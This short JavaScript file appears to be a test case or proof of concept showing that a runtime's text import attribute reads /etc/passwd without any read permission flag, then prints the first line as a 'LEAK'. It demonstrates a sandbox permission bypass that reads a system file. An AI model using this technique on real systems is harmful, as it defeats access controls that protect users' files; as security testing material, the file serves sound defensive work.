// T1: a literal text import reads any file, with no --allow-read at all.
import passwd from "file:///etc/passwd" with { type: "text" };

console.error(`LEAK: ${passwd.split("\n")[0]}`);
